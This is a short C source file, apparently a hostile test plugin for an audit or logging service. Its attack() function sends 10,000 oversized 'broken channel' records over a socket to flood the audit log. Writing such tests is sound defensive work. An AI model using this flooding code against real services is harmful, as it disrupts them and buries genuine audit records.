// Reports broken channels without end: each would be a long line of the audit log.
#include <sys/socket.h>

#include "evil.h"

static void attack(void) {
  struct {
    uint32_t version;
    uint16_t type, reserved;
    uint32_t size, sequence;
    uint64_t channel;
    uint32_t reason, more;
    char text[1024];
  } record = {2, 66, 0, sizeof record, 0, 77, 3, 0, {0}};
  memset(record.text, 1, sizeof record.text - 1);
  for (int i = 0; i < 10000; ++i) (void)send(3, &record, sizeof record, MSG_NOSIGNAL);
}

EVIL_PLUGIN;
